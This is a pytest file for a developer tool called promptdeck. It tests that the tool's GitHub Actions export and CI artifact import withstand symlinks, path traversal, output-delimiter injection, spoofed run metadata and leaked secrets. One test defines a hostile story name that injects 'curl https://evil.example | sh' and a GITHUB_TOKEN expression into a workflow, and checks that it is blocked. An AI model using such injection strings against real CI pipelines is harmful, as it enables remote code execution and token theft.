"""``export --ci github`` and ``import-runs`` against hostile repositories and artifacts.

The workflow a user already has is never overwritten (a big, binary or FIFO one included),
nothing is written through a link, no expression is pasted into a ``run`` script (GitHub
Actions script injection), and an artifact's record cannot claim to be another run."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from builders import commit_all
from promptdeck.core.errors import UsageError
from promptdeck.core.fleet import export_github, import_runs, interrupted_runs
from promptdeck.core.fleet.ci import workflow_for
from promptdeck.core.project.trust import trust_config
from promptdeck.core.project.workspace import Workspace, open_workspace
from promptdeck.core.records.reader import list_runs
from promptdeck.core.records.writer import RunRecord

ART = "_bmad-output/implementation-artifacts"
SPRINT = "development_status:\n  epic-1: in-progress\n  1-1-login: ready-for-dev\n"
WORKFLOW = ".github/workflows/promptdeck-epic-1.yml"


def epic(root: Path) -> Workspace:
    art = root / ART
    art.mkdir(parents=True)
    (art / "sprint-status.yaml").write_text(SPRINT)
    (art / "1-1-login.md").write_text(
        "# Story 1.1: Login\n\nStatus: ready-for-dev\n\n## Tasks / Subtasks\n\n- [ ] `src/a.py`\n"
    )
    (root / ".promptdeck").mkdir()
    (root / ".promptdeck" / "config.toml").write_text('[agent]\ndefault = "replay"\n')
    commit_all(root)
    ws = open_workspace(root)
    trust_config(ws)
    return ws


@pytest.mark.parametrize("kind", ["big", "binary", "fifo"])
def test_a_users_workflow_is_never_overwritten(tmp_path: Path, kind: str) -> None:
    ws = epic(tmp_path)
    workflow = tmp_path / WORKFLOW
    workflow.parent.mkdir(parents=True)
    if kind == "big":  # over the guarded reader's limit: once read as "not there"
        mine = "name: mine\n" + "# a comment\n" * 300_000
        workflow.write_text(mine)
    elif kind == "binary":
        workflow.write_bytes(b"name: mine\n\xff\xfe\n")
    else:  # once opened for writing: a hang until a reader came
        os.mkfifo(workflow)
    with pytest.raises(UsageError, match="not overwritten"):
        export_github(ws, "1", "claude")
    if kind == "big":
        assert workflow.read_text() == mine
    elif kind == "binary":
        assert workflow.read_bytes() == b"name: mine\n\xff\xfe\n"


def test_a_payload_folder_linked_into_the_project_is_refused(tmp_path: Path) -> None:
    ws = epic(tmp_path)
    (tmp_path / "src").mkdir()
    mine = tmp_path / "src" / "system.md"
    mine.write_text("my own file\n")
    story = tmp_path / ".promptdeck/ci/epic-1/1-1"
    story.mkdir(parents=True)
    (story / "dev").symlink_to(tmp_path / "src")
    with pytest.raises(UsageError, match="symbolic link"):
        export_github(ws, "1", "claude")
    assert mine.read_text() == "my own file\n"


def test_a_workflows_folder_linked_elsewhere_is_refused(tmp_path: Path) -> None:
    ws = epic(tmp_path)
    (tmp_path / "docs").mkdir()
    (tmp_path / ".github").mkdir()
    (tmp_path / ".github" / "workflows").symlink_to(tmp_path / "docs")
    with pytest.raises(UsageError, match="symlink"):
        export_github(ws, "1", "claude")
    assert list((tmp_path / "docs").iterdir()) == []


@pytest.mark.parametrize("agent", ["claude", "codex"])
def test_no_expression_reaches_a_run_script(tmp_path: Path, agent: str) -> None:
    hostile = '1-1"; curl https://evil.example | sh; echo "${{ secrets.GITHUB_TOKEN }}'
    data = workflow_for("1", ((hostile,),), ".promptdeck/ci/epic-1", agent)
    scripts = [
        step["run"] for job in data["jobs"].values() for step in job["steps"] if "run" in step
    ]
    assert scripts
    for script in scripts:
        assert "${{" not in script, script
        assert "curl" not in script
    # The story reaches the scripts as data: through the step's environment.
    pushes = [
        step
        for job in data["jobs"].values()
        for step in job["steps"]
        if "git push" in step.get("run", "")
    ]
    assert all(step["env"]["PROMPTDECK_STORY"] == "${{ matrix.story }}" for step in pushes)


def test_a_message_line_cannot_end_the_step_output_early(tmp_path: Path) -> None:
    data = workflow_for("1", (("1-1",),), ".promptdeck/ci/epic-1", "claude")
    [payload] = [s for s in data["jobs"]["wave-1-dev"]["steps"] if s.get("id") == "payload"]
    folder = tmp_path / "payload"
    folder.mkdir()
    (folder / "user.md").write_text("first\nPROMPTDECK_EOF\nsecret=stolen\nlast\n")
    output = tmp_path / "output"
    env = {**os.environ, **payload["env"], "PROMPTDECK_DIR": str(folder)}
    env["GITHUB_OUTPUT"] = str(output)
    subprocess.run(["bash", "-c", payload["run"]], env=env, check=True)
    lines = output.read_text().splitlines()
    delimiter = lines[0].removeprefix("user<<")
    assert delimiter != "PROMPTDECK_EOF" and lines[-1] == delimiter
    assert lines[1:-2] == ["first", "PROMPTDECK_EOF", "secret=stolen", "last"]


def _artifact(folder: Path, meta: dict[str, object]) -> None:
    folder.mkdir(parents=True)
    (folder / "meta.json").write_text(json.dumps(meta))
    (folder / "ci.json").write_text('{"conclusion": "success", "run": "7"}')
    (folder / "output.txt").write_text("done\n")


def test_an_artifact_cannot_claim_to_resume_another_run(tmp_path: Path) -> None:
    ws = epic(tmp_path)
    record = RunRecord.create(tmp_path, "1-1", "dev")
    record.write_meta(
        {"run_id": record.id, "story": "1-1", "phase": "dev", "agent": "replay", "pid": 2**22 + 7}
    )
    record.close()
    assert [i.run_id for i in interrupted_runs(list_runs(tmp_path))] == [record.id]
    _artifact(
        tmp_path / "artifacts" / "job",
        {
            "story": "1-1",
            "phase": "dev",
            "agent": "claude",
            "continues": record.id,
            "pid": 1,
            "story_path": "../../outside.md",
        },
    )
    done = import_runs(ws, tmp_path / "artifacts")
    [imported] = done.runs
    # The interrupted run is still waiting: the artifact's claim was not kept.
    assert [i.run_id for i in interrupted_runs(list_runs(tmp_path))] == [record.id]
    meta = json.loads((tmp_path / ".promptdeck/runs" / imported / "meta.json").read_text())
    assert "continues" not in meta and meta.get("pid") in (None, 0)
    assert meta.get("story_path") != "../../outside.md"


def test_an_artifact_for_a_story_the_plan_does_not_have_is_refused(tmp_path: Path) -> None:
    ws = epic(tmp_path)
    _artifact(tmp_path / "artifacts" / "job", {"story": "9-9", "phase": "dev", "agent": "claude"})
    done = import_runs(ws, tmp_path / "artifacts")
    assert done.runs == () and len(done.refused) == 1
    assert "9-9" in done.refused[0]


def test_an_archive_is_one_line_not_a_traceback(tmp_path: Path) -> None:
    ws = epic(tmp_path)
    archive = tmp_path / "artifacts.zip"
    archive.write_bytes(b"PK\x03\x04")
    with pytest.raises(UsageError, match="not a folder"):
        import_runs(ws, archive)


def test_an_artifacts_agent_and_conclusion_are_only_known_words(tmp_path: Path) -> None:
    ws = epic(tmp_path)
    _artifact(tmp_path / "artifacts" / "a", {"story": "1-1", "phase": "dev", "agent": "x" * 9999})
    good = tmp_path / "artifacts" / "b"
    _artifact(good, {"story": "1-1", "phase": "dev", "agent": "codex"})
    (good / "ci.json").write_text(json.dumps({"conclusion": "\x1b[8m" + "s" * 3_000_000}))
    done = import_runs(ws, tmp_path / "artifacts")
    assert len(done.refused) == 1 and done.refused[0].startswith("a: ")
    [imported] = done.runs
    [run] = [r for r in list_runs(tmp_path) if r.id == imported]
    assert run.run_result is not None
    assert run.run_result.message.startswith("imported from CI (unknown)")
    assert len(run.run_result.message) < 200


AWS_KEY = "AKIAIOSFODNN7EXAMPLE"


def test_a_prompt_carrying_a_secret_is_not_exported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from promptdeck.cli import main
    from promptdeck.core.errors import SecretsInInjection

    ws = epic(tmp_path)
    (tmp_path / ART / "1-1-ops-notes.md").write_text(f"# Ops notes\n\naws: {AWS_KEY}\n")
    # The payloads are committed and pushed for the workflow to read: a secret would go too.
    with pytest.raises(SecretsInInjection):
        export_github(ws, "1", "claude")
    assert not (tmp_path / ".promptdeck" / "ci").exists()
    assert not (tmp_path / WORKFLOW).exists()
    monkeypatch.chdir(tmp_path)
    assert main(["export", "--ci", "github", "--epic", "1", "--agent", "claude"]) == 8
    assert AWS_KEY not in capsys.readouterr().err
    assert (
        main(["export", "--ci", "github", "--epic", "1", "--agent", "claude", "--allow-secrets"])
        == 0
    )
    assert AWS_KEY in (tmp_path / ".promptdeck/ci/epic-1/1-1/dev/system.md").read_text()


def test_two_stories_with_one_folder_name_are_not_exported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = epic(tmp_path)
    (tmp_path / ART / "sprint-status.yaml").write_text(SPRINT + "  1-2-logout: ready-for-dev\n")
    (tmp_path / ART / "1-2-logout.md").write_text(
        "# Story 1.2: Logout\n\nStatus: ready-for-dev\n\n## Tasks / Subtasks\n\n- [ ] `src/b.py`\n"
    )
    # Two plan names that read as one folder name (a key's punctuation, its case).
    monkeypatch.setattr("promptdeck.core.fleet.ci.slug", lambda story: "same")
    with pytest.raises(UsageError, match="one folder name"):
        export_github(ws, "1", "claude")
    assert not (tmp_path / ".promptdeck" / "ci").exists()


def test_an_artifact_with_lone_surrogates_is_imported_not_a_traceback(tmp_path: Path) -> None:
    ws = epic(tmp_path)
    job = tmp_path / "artifacts" / "job"
    _artifact(job, {"story": "1-1", "phase": "dev", "agent": "claude", "signature": "\udc80"})
    (job / "output.txt").unlink()
    (job / "execution.json").write_text('[{"type": "result", "result": "done \\udc80"}]')
    (job / "ci.json").write_text('{"conclusion": "success", "run": "\\udc80"}')
    done = import_runs(ws, tmp_path / "artifacts")
    [imported] = done.runs
    stream = (tmp_path / ".promptdeck/runs" / imported / "stream.log").read_text()
    assert stream == "done ?"
